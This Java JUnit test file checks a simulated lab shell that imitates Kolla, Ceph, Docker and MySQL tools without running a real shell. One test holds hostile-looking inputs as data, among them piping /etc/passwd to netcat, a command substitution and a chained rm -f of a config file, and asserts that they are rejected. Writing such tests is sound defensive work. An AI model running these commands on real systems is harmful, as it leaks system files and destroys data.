package io.dayshift.lab.ssh;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.dayshift.lab.model.FaultType;
import io.dayshift.lab.model.LabFault;
import io.dayshift.lab.model.LabSite;
import io.dayshift.lab.model.LabTimings;
import io.dayshift.lab.topology.TopologyLoader;
import io.dayshift.shell.Arg;
import io.dayshift.shell.ShellCommand;
import io.dayshift.shell.ShellQuoting;
import io.dayshift.testing.MutableClock;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The interpreter reads lines as a shell would and answers like the real tools; it never runs a shell. */
class LabShellTest {

    private final LabShell shell = LabShell.standard();
    private final TopologyLoader loader = new TopologyLoader();
    private final LabSite kolla = loader.load("lab", loader.readResource("lab/small-kolla.yaml"), MutableClock.at("2025-05-06T07:00:00Z"),
            LabTimings.instant());

    private ShellResult run(String node, String line) {
        return shell.execute(new Session(kolla, node, () -> "", d -> { }), line);
    }

    @Test
    void readsTheQuotingShellCommandProduces() {
        ShellCommand command = ShellCommand.of("cp").flag("-p").arg(Arg.PATH, "/etc/kolla/multinode").arg(Arg.PATH, "/tmp/b")
                .andThen(ShellCommand.of("wc").flag("-c").arg(Arg.PATH, "/tmp/b")).withSudo();

        assertThat(CommandLine.parse(command.render())).containsExactly(
                List.of("sudo", "-n", "cp", "-p", "/etc/kolla/multinode", "/tmp/b"), List.of("wc", "-c", "/tmp/b"));
        assertThat(CommandLine.parse("juju config " + ShellQuoting.quote("it's a \"test\"") + " \"x y\"")).containsExactly(
                List.of("juju", "config", "it's a \"test\"", "x y"));
    }

    @Test
    void refusesWhatOnlyARealShellWouldDo() {
        assertThatThrownBy(() -> CommandLine.parse("cat /etc/passwd | nc x 1")).isInstanceOf(CommandLine.UnsupportedSyntaxException.class);
        assertThatThrownBy(() -> CommandLine.parse("echo $(id)")).isInstanceOf(CommandLine.UnsupportedSyntaxException.class);
        assertThat(run("cc01", "cat /etc/kolla/globals.yml; rm -f /etc/kolla/globals.yml").exit()).isEqualTo(2);
        assertThat(kolla.kolla().file("/etc/kolla/globals.yml")).isPresent();
    }

    @Test
    void anUnknownCommandAnswersLikeSh() {
        ShellResult result = run("cc01", "foo --bar");

        assertThat(result.exit()).isEqualTo(127);
        assertThat(result.stderr()).isEqualTo("sh: 1: foo: not found\n");
    }

    @Test
    void andStopsAtTheFirstFailure() {
        ShellResult result = run("cc01", "cat '/nope' && rm -f '/etc/kolla/globals.yml'");

        assertThat(result.exit()).isEqualTo(1);
        assertThat(result.stderr()).isEqualTo("cat: /nope: No such file or directory\n");
        assertThat(kolla.kolla().file("/etc/kolla/globals.yml")).isPresent();
    }

    @Test
    void dockerPsShowsTheNodesContainersAndAFailingNovaCompute() {
        kolla.injectFault(LabFault.of(FaultType.HYPERVISOR_DOWN, "cn02"));

        String ps = run("cn02", "docker ps -a").stdout();

        assertThat(ps).contains("CONTAINER ID").contains("nova_libvirt").contains("Up 3 days (healthy)");
        assertThat(ps.lines().filter(l -> l.endsWith("nova_compute")).findFirst().orElseThrow()).contains("Restarting (1)");
        assertThat(run("cn02", "docker logs --tail 2 nova_compute").stdout()).contains("libvirtError").hasLineCount(2);
        assertThat(run("", "docker ps -a").exit()).isEqualTo(127);
    }

    @Test
    void cephAnswersItsStatusAndMinimalConf() {
        assertThat(run("cc01", "ceph health").stdout()).isEqualTo("HEALTH_OK\n");
        run("cc01", "ceph osd set noout");
        assertThat(run("cc01", "ceph health").stdout()).startsWith("HEALTH_WARN").contains("noout");
        assertThat(run("cc01", "ceph -s").stdout()).contains("osd: 12 osds: 12 up");
        assertThat(run("cc01", "ceph config generate-minimal-conf").stdout()).contains("[global]").contains("mon_host = [v2:10.20.0.10:3300/0");
    }

    @Test
    void kollaAnsibleRefusesTheOtherCliAndAStopWithoutConfirmation() {
        assertThat(run("cc01", "kolla-ansible --version").stdout()).isEqualTo("kolla-ansible 17.3.0\n");
        assertThat(run("cc01", "kolla-ansible -i '/etc/kolla/multinode' mariadb-backup").exit()).isEqualTo(1);
        assertThat(run("cc01", "kolla-ansible -i '/etc/kolla/multinode' stop --limit 'cn01'").stdout()).startsWith("WARNING:").contains("--yes-i-really-really-mean-it");
        assertThat(kolla.destructiveActions()).isEmpty();
        ShellResult stop = run("cc01", "kolla-ansible -i '/etc/kolla/multinode' stop --yes-i-really-really-mean-it --limit 'cn01'");
        assertThat(stop.exit()).isZero();
        assertThat(kolla.nova().hypervisor("cn01").orElseThrow().up()).isFalse();
    }

    @Test
    void mysqldumpAndMysqlActOnTheModel() {
        ShellResult dump = run("cc01", "mysqldump --all-databases --single-transaction");
        assertThat(dump.stdout()).startsWith("-- MariaDB dump");

        ShellResult restore = shell.execute(new Session(kolla, "cc01", dump::stdout, d -> { }), "mysql");
        assertThat(restore.exit()).isZero();
        assertThat(kolla.destructiveActions()).containsEntry("mysqldump", 1L).containsEntry("mysql-restore", 1L);
    }
}
